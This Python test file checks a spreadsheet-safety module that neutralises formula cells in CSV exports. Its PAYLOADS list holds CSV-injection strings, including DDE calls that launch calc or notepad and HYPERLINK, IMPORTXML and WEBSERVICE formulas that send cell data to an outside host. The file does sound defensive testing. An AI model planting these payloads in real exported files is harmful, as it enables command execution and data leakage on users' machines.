"""No cell that leaves Leadgate is a formula, and none loses a character by that."""

import os
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from reports.spreadsheet_safety import guard_frame, guard_text, unguard_frame, unguard_text

LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")  # noqa: RUF001 -- meant
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.com",A1),"//a")',
    '=WEBSERVICE("http://example.com")',
    '=DDE("cmd";"/C calc";"!A0")',
    "+1+1",
    "+493012345678",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@example",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\r\n=cmd|'/C calc'!A0",
    "＝1+1",  # noqa: RUF001 -- the full-width sign is the case
    "＋1",  # noqa: RUF001 -- the full-width sign is the case
    "－1",  # noqa: RUF001 -- the full-width sign is the case
    "＠SUM(1)",  # noqa: RUF001 -- the full-width sign is the case
    "=",
    "'=1+1",
    "''=1+1",
    "'+49",
    '="a""b"',
)
HARMLESS = (
    "",
    "Anna",
    "O'Neill",
    "'tis",
    "'",
    "''",
    "a=b",
    "1-2",
    "anna@example.com",
    " =1",
    "“=1”",
)


def is_live(text: str) -> bool:
    return text.startswith(LIVE)


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_that_would_be_run_is_guarded_and_comes_back(text):
    guarded = guard_text(text)
    assert guarded == "'" + text
    assert not is_live(guarded)
    assert unguard_text(guarded) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_left_alone(text):
    assert guard_text(text) == text
    assert unguard_text(text) == text


@given(st.text(st.sampled_from([*LIVE, "'", "a", " ", '"', ",", "é"]), max_size=6) | st.text())
def test_guarding_makes_safe_and_loses_nothing(text):
    guarded = guard_text(text)
    assert not is_live(guarded)
    assert unguard_text(guarded) == text


@given(st.text(st.sampled_from([*LIVE, "'", "a"]), max_size=5), st.text(max_size=5))
def test_different_texts_stay_different(one, other):
    assert (guard_text(one) == guard_text(other)) == (one == other)


def test_a_frame_is_guarded_with_its_header_and_keeps_its_numbers_and_nulls():
    frame = pd.DataFrame(
        {
            "=phone": pd.Series(["+49", None, "1"], dtype="str"),
            "anything": [{"a": 1}, "@x", None],
            "weight": [-1.5, 2.0, None],
            "row": pd.array([1, None, -3], dtype="Int64"),
        }
    )
    guarded = guard_frame(frame)
    assert list(guarded) == ["'=phone", "anything", "weight", "row"]
    assert guarded["'=phone"].tolist()[0] == "'+49"
    assert guarded["'=phone"].isna().tolist() == [False, True, False]
    assert guarded["anything"].tolist()[:2] == [{"a": 1}, "'@x"]
    pd.testing.assert_series_equal(guarded["weight"], frame["weight"])
    pd.testing.assert_frame_equal(unguard_frame(guarded), frame)


def test_frames_without_rows_or_columns_pass_through():
    assert guard_frame(pd.DataFrame()).empty
    assert list(guard_frame(pd.DataFrame({"+a": pd.Series(dtype="str")}))) == ["'+a"]


def test_two_columns_of_one_name_are_both_guarded():
    frame = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    assert guard_frame(frame).to_numpy().tolist() == [["'=1", "'=2"]]


def test_the_public_payloads_are_guarded():
    folder = os.environ.get("LEADGATE_CORPORA")
    if not folder:
        pytest.skip("LEADGATE_CORPORA is not set: no public payloads to read")
    lines = (Path(folder) / "spreadsheets/csv_injection/csv-payload.txt").read_text().splitlines()
    assert lines
    for line in lines:
        assert not is_live(guard_text(line))
        assert unguard_text(guard_text(line)) == line
